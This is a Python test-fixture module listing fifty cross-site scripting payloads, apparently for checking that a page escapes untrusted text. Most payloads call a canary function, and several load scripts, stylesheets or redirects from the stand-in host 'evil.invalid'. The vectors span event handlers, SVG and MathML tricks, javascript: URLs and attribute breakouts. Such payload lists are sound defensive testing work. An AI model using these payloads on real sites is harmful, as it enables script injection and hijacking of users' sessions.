"""Fifty texts that run a script, load a picture or lead elsewhere where a page shows them unescaped.

Each calls `pwned` with its number, or asks a host that does not exist for a file with that number in its name. They try
elements, attributes, addresses, scripts' own texts, templates, styles, other encodings, and the marks that Plotly takes in labels.
"""

ELSEWHERE = "evil.invalid"

_VECTORS = (
    "<script>pwned({n})</script>",
    "</script><script>pwned({n})</script>",
    "<ScRiPt>pwned({n})</sCrIpT>",
    "<script src=//{elsewhere}/{n}.js></script>",
    "<script\n>pwned({n})</script\t>",
    "<scr<script>ipt>pwned({n})</scr</script>ipt>",
    "<img src=x onerror=pwned({n})>",
    "<img src=x onerror='pwned({n})'//",
    '"><img src=x onerror=pwned({n})>',
    "'><img src=x onerror=pwned({n})>",
    "<img/src/onerror=pwned({n})>",
    "<img src='//{elsewhere}/{n}.png'>",
    "<svg onload=pwned({n})>",
    "<svg><script>pwned({n})</script></svg>",
    "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:pwned({n})'><text y=20>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned({n})></style></mglyph></math>",
    "<body onload=pwned({n})>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'></iframe>",
    "<iframe src='javascript:parent.pwned({n})'></iframe>",
    "<object data='javascript:pwned({n})'></object>",
    "<embed src='data:text/html,<script>parent.pwned({n})</script>'>",
    "<details open ontoggle=pwned({n})><summary>x</summary></details>",
    "<input autofocus onfocus=pwned({n})>",
    "<select autofocus onfocus=pwned({n})></select>",
    "<video><source onerror=pwned({n})></video>",
    "<audio src=x onerror=pwned({n})>",
    "<marquee onstart=pwned({n})>x</marquee>",
    "<style>@import '//{elsewhere}/{n}.css';</style>",
    "<style onload=pwned({n})></style>",
    "<link rel=stylesheet href='//{elsewhere}/{n}.css'>",
    "<meta http-equiv=refresh content='0;url=//{elsewhere}/{n}'>",
    "<base href='//{elsewhere}/{n}/'>",
    "<form action='//{elsewhere}/{n}'><button autofocus onfocus=pwned({n})>x</button></form>",
    '" autofocus onfocus="pwned({n})" x="',
    "' autofocus onfocus='pwned({n})' x='",
    '" onmouseover="pwned({n})" style="position:fixed;inset:0',
    "` onmouseover=pwned({n}) x=`",
    "javascript:pwned({n})",
    "java\tscript:pwned({n})",
    "data:text/html,<script>parent.pwned({n})</script>",
    "<a href='javascript:pwned({n})'>x</a>",
    '<a href="&#106;avascript:pwned({n})">x</a>',
    "{{{{ self.__init__.__globals__['__builtins__']['print']('pwned({n})') }}}}<img src=x onerror=pwned({n})>",
    "{{% raw %}}<img src=x onerror=pwned({n})>{{% endraw %}}",
    "-->]]>*/<img src=x onerror=pwned({n})><!--",
    "</title></textarea></style></noscript><img src=x onerror=pwned({n})>",
    "\\u003cimg src=x onerror=pwned({n})\\u003e&lt;img src=x onerror=pwned({n})&gt;",
    "'-pwned({n})-'\";pwned({n})//\\';pwned({n})//",
    "\u202e<img src=x onerror=pwned({n})>\u0000\u001b]0;pwned({n})\u0007",
)

PAYLOADS: tuple[str, ...] = tuple(
    vector.format(n=number, elsewhere=ELSEWHERE) for number, vector in enumerate(_VECTORS)
)
